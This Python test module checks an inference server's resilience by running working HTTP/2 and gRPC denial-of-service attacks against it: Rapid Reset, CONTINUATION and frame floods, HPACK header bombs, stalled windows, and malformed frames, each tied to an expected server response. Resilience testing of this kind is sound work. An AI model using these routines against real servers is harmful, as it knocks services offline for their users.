"""Clients of HTTP/2 that break its rules, or use them to make the server work or wait."""

import contextlib
import functools
import struct
import time

import grpc
import hpack
import http1
import http2
import pictures
from amplification import INFER, LENGTH, binary
from connections import CLOSED_SECONDS, FEW_SLOTS, SHORT_TIMES, served
from http2 import Http2, frame, settings, window_update
from trial import Trial, at_once, attack

# Answers have a time limit too. It starts when the request is complete.
UNSENT_SECONDS = 8.0


def head(port: int, path: str = "/openapi.json", method: str = "GET") -> bytes:
    """A block of headers."""
    names = [(":method", method), (":scheme", "http"), (":path", path)]
    return hpack.encode([*names, (":authority", f"localhost:{port}")])


def flood(trial: Trial, part: bytes, count: int, clients: int = 2, start: bytes = b"") -> None:
    """Sends `part` many times on several connections, reads nothing, and reports how it ends."""

    def run() -> None:
        with Http2(trial.server.http, 2) as client:
            client.send(start)
            piece, times = part * 100, count // 100
            is_sent = all(client.send(piece) for _ in range(times))
            end = client.drain(0.5)
            trial.count(end if is_sent or end != "still open" else "stopped reading")

    at_once([run] * clients)


@attack(*FEW_SLOTS)
def idle_http2_gives_its_slots_back(trial: Trial) -> None:
    """14 clients start HTTP/2 and then only answer pings. They take all 16 slots.

    Their slots must be free after the idle time of a second. An old server kept them for ever.
    """
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(Http2(trial.server.http)) for _ in range(14)]
        trial.expect_in(trial.server.get("/v2/health/live", 1), [200], "liveness without a slot")

        def wait(client: Http2) -> None:
            trial.count(client.drain(CLOSED_SECONDS))

        at_once([functools.partial(wait, client) for client in clients])
        trial.expect_in(served(trial.server.http, 2), [200], "a picture after the idle time")
        is_open = trial.replies["still open"]
        trial.expect(not is_open, f"{is_open} idle connections are open after 5 s")


@attack(*FEW_SLOTS)
def http2_that_looks_busy_gives_its_slots_back(trial: Trial) -> None:
    """The same with clients that send a PING, a WINDOW_UPDATE or SETTINGS every 0.2 s.

    Frames without requests must not keep a slot. On an old server they did.
    """
    frames = [frame(http2.PING, 0, 0, bytes(8)), window_update(0, 1), settings({})]

    def run(part: bytes) -> None:
        with Http2(trial.server.http) as client:
            client.window = 0
            deadline = time.monotonic() + CLOSED_SECONDS
            end = "still open"
            while time.monotonic() < deadline and end == "still open":
                end = client.drain(0.2) if client.send(part) else "closed"
            trial.count(end)
            trial.expect(end != "still open", "a connection without requests is open after 5 s")

    at_once([functools.partial(run, frames[n % 3]) for n in range(14)])


@attack(*SHORT_TIMES)
def streams_without_an_end(trial: Trial) -> None:
    """16 connections open 256 requests each, whose bodies never come.

    The honest clients must be served meanwhile, and after the time limit each stream must have an
    answer or a reset. A new client of gRPC must be served too. The old server did that.
    """

    def run() -> None:
        with Http2(trial.server.http) as client:
            for _ in range(256):
                client.headers("POST", "/predict", end=False)
            end = client.drain(4)
            left = sum(stream.outcome() == "no reply" for stream in client.streams.values())
            trial.count("answered" if not left else end)
            is_done = not left or end != "still open"
            trial.expect(is_done, f"{left} of 256 requests without a body are open after 4 s")

    def call() -> None:
        time.sleep(0.5)
        status = grpc.call(trial.server.grpc, grpc.message(grpc.infer_pixels(1)))
        trial.expect_in(grpc.name(status), ["grpc 0"], "an honest call over gRPC meanwhile")

    at_once([*[run] * 16, call])


@attack(*SHORT_TIMES)
def answers_that_cannot_be_sent(trial: Trial) -> None:
    """A window of 0 bytes, and 256 requests on each of 8 connections for 4 kinds of answers.

    The server must give up after its time limits. An old one kept requests and answers as long as
    the client answered pings.
    """
    port = trial.server.http
    body, length = binary({"name": "image", "datatype": "UINT8", "shape": [50, 784]}, bytes(39200))
    headers = {LENGTH.replace("_", "-").lower(): length}

    def run(number: int) -> None:
        with Http2(port, window=0) as client:
            try:
                for stream in range(256):
                    if stream % 4 or number % 2:
                        client.headers("GET", "/openapi.json" if stream % 2 else "/")
                    else:
                        client.data(client.headers("POST", INFER, headers, end=False), body)
            except (http1.Ended, OSError):
                return trial.count("closed")
            end = client.drain(UNSENT_SECONDS)
            resets = sum(stream.reset is not None for stream in client.streams.values())
            unfinished = sum(stream.reset is None for stream in client.streams.values())
            is_done = end != "still open" or not unfinished
            trial.count(end if end != "still open" else f"{resets} resets")
            trial.expect(is_done, f"{unfinished} answers without a window wait after 8 s")

    at_once([functools.partial(run, number) for number in range(8)])


@attack(*SHORT_TIMES)
def windows_of_one_byte(trial: Trial) -> None:
    """The client lets each answer proceed by one byte every 0.1 s.

    The server must give up after its time limits. An old one went on for ever.
    """

    def run() -> None:
        with Http2(trial.server.http, window=1) as client:
            for _ in range(50):
                client.headers("GET", "/")
            deadline = time.monotonic() + UNSENT_SECONDS
            end = "still open"
            while time.monotonic() < deadline and end == "still open":
                drip = b"".join(window_update(stream, 1) for stream in client.streams)
                end = client.drain(0.1) if client.send(drip) else "closed"
                if all(stream.reset is not None for stream in client.streams.values()):
                    end = "streams reset"
            trial.count(end)
            trial.expect(end != "still open", "answers at 10 bytes per second go on after 8 s")

    at_once([run] * 4)


@attack()
def rapid_reset(trial: Trial) -> None:
    """100,000 requests that are cancelled at once, on 2 connections (CVE-2023-44487).

    The server must close these connections, or serve the others well in spite of them. The old one
    closed them.
    """
    block = head(trial.server.http)

    def run() -> None:
        with Http2(trial.server.http, 2) as client:
            end = "all sent"
            for first in range(1, 100_000, 200):
                parts = b"".join(
                    frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)
                    + frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
                    for stream in range(first, first + 200, 2)
                )
                if not client.send(parts):
                    break
            end = client.drain(0.5)
            trial.count(end)

    at_once([run] * 2)


@attack()
def resets_by_the_server(trial: Trial) -> None:
    """Requests that the server must reset because of errors in them (CVE-2025-8671).

    Each is followed by a WINDOW_UPDATE of 0, so that the server itself resets the stream. It must
    close the connection after some of them. The old one did.
    """
    block = head(trial.server.http)
    with Http2(trial.server.http, 2) as client:
        for first in range(1, 40_000, 200):
            parts = b"".join(
                frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)
                + window_update(stream, 0)
                for stream in range(first, first + 200, 2)
            )
            if not client.send(parts):
                break
        trial.count(client.drain(0.5))


@attack()
def endless_headers(trial: Trial) -> None:
    """One block of headers in 1,000 CONTINUATION frames of 16 KB (CVE-2024-27316).

    The server must close the connection and not collect the block. The old one did.
    """
    start = frame(http2.HEADERS, 0, 1, head(trial.server.http))
    part = frame(http2.CONTINUATION, 0, 1, hpack.literal(b"x", b"y" * 16000))
    flood(trial, part, 1000, start=start)
    empty = frame(http2.CONTINUATION, 0, 1)
    flood(trial, empty, 100_000, start=start)


@attack()
def header_bombs(trial: Trial) -> None:
    """A header of 4,000 bytes that a block repeats 16,000 times, a byte each: 64 MB.

    The server must answer 431 or reset the stream, without that memory. The old one did.
    """
    block = head(trial.server.http)
    bomb = hpack.literal(b"x", b"y" * 3900, 0x40) + hpack.integer(62, 7, 0x80) * 12_000

    def run() -> None:
        with Http2(trial.server.http, 2) as client:
            for stream in range(1, 200, 2):
                client.streams[stream] = http2.Stream(0)
                client.send(frame(http2.HEADERS, 5, stream, block + bomb))
            end = client.drain(0.5)
            answered = {stream.outcome() for stream in client.streams.values()} - {"no reply"}
            answers = "+".join(sorted(map(str, answered)))
            trial.count(answers if end == "still open" else end)
            trial.expect(200 not in answered, "headers of 48 MB were accepted")

    at_once([run] * 4)


@attack()
def floods_of_frames(trial: Trial) -> None:
    """100,000 and more PING, SETTINGS, PRIORITY, empty DATA and unknown frames, none read.

    The server must close the connection or stop reading, with bounded memory. The old one did.
    """
    port = trial.server.http
    flood(trial, frame(http2.PING, 0, 0, bytes(8)), 200_000)
    flood(trial, settings({http2.INITIAL_WINDOW_SIZE: 65535}), 100_000)
    flood(trial, frame(http2.PRIORITY, 0, 1, bytes(5)), 100_000)
    flood(trial, frame(0xBE, 0, 0, bytes(100)), 100_000)
    post = frame(http2.HEADERS, http2.END_HEADERS, 1, head(port, "/predict", "POST"))
    flood(trial, frame(http2.DATA, 0, 1), 100_000, start=post)
    flood(trial, window_update(0, 1), 100_000)


@attack()
def bodies_over_many_streams(trial: Trial) -> None:
    """4 connections with 100 unfinished bodies of 1 MB each.

    The honest clients must be served, with bounded memory. An old server kept 400 MB of them.
    """

    def run() -> None:
        with Http2(trial.server.http, 2) as client:
            try:
                for _ in range(100):
                    stream = client.headers("POST", "/predict", end=False)
                    client.data(stream, bytes(1 << 20), end=False)
            except (http1.Ended, OSError):
                pass
            client.drain(0.5)
            rejected = sum(isinstance(s.outcome(), int) for s in client.streams.values())
            trial.count(f"{rejected // 10 * 10}+ rejected")

    at_once([run] * 4)


@attack()
def errors_of_frames(trial: Trial) -> None:
    """Frames with wrong lengths, streams, padding, and settings.

    Each connection must end with a GOAWAY or a reset. The old server did that.
    """
    port = trial.server.http
    block = head(port)
    cases: list[bytes] = [
        frame(http2.HEADERS, 5, 2, block),
        frame(http2.HEADERS, 5, 0, block),
        frame(http2.HEADERS, 5 | 8, 1, b"\xff" + block[:20]),
        frame(http2.HEADERS, 5, 1, b"\xff" * 50),
        frame(http2.HEADERS, 5, 1, b"\x80"),
        frame(http2.DATA, 1, 1, b"x"),
        frame(http2.CONTINUATION, 4, 1, block),
        frame(http2.PING, 0, 0, bytes(7)),
        frame(http2.SETTINGS, 0, 0, bytes(5)),
        settings({http2.INITIAL_WINDOW_SIZE: 2**31}),
        settings({http2.MAX_FRAME_SIZE: 1}),
        window_update(0, http2.LARGEST_WINDOW),
        b"\xff\xff\xff" + bytes(6) + bytes(100),
        frame(http2.RST_STREAM, 0, 1, bytes(4)),
        frame(http2.PRIORITY, 0, 1, b"\0\0\0\1\0"),
    ]
    for case in cases:
        with Http2(port, 2) as client:
            client.streams[1] = http2.Stream(0)
            client.send(case)
            end = client.drain(0.3)
            is_reset = client.streams[1].reset is not None
            end = "stream reset" if is_reset and end == "still open" else end
            trial.count(end)
            trial.expect(end != "still open", f"the frames {case[:20].hex()} were accepted")


@attack()
def deadlines(trial: Trial) -> None:
    """`grpc-timeout` of a nanosecond to a millisecond, for 20 large pictures; and invalid values.

    The first must be answered with DEADLINE_EXCEEDED, the others with OK or an error that names the
    header. The old server did not read it.
    """
    files = [pictures.grey_png(3000, 3000)] * 20
    raw = grpc.field(7, pictures.bytes_tensor(files))
    slow = grpc.message(grpc.infer(grpc.field(5, grpc.tensor("picture", "BYTES", [20])), raw))
    for value in ("1n", "1u", "100u", "1m"):
        status = grpc.call(trial.server.grpc, slow, headers={"grpc-timeout": value})
        # Other attacks may hold the memory that the body needs.
        trial.expect_in(grpc.name(status), ["grpc 4", "grpc 14"], f"grpc-timeout: {value}")
    quick = grpc.message(grpc.infer_pixels(1))

    def answer(value: str) -> int | str:
        return grpc.call(trial.server.grpc, quick, headers={"grpc-timeout": value})

    for value in ("10S", "99999999H", "1M"):
        trial.expect_in(grpc.name(answer(value)), ["grpc 0"], f"grpc-timeout: {value}")
    for value in ("", "1", "m", "-1m", "1x", "1.5S", "123456789m", "1 m", "9" * 100 + "S"):
        allowed = ["grpc 0", "grpc 3", "grpc 13"]
        trial.expect_in(grpc.name(answer(value)), allowed, f"grpc-timeout: {value!r}")
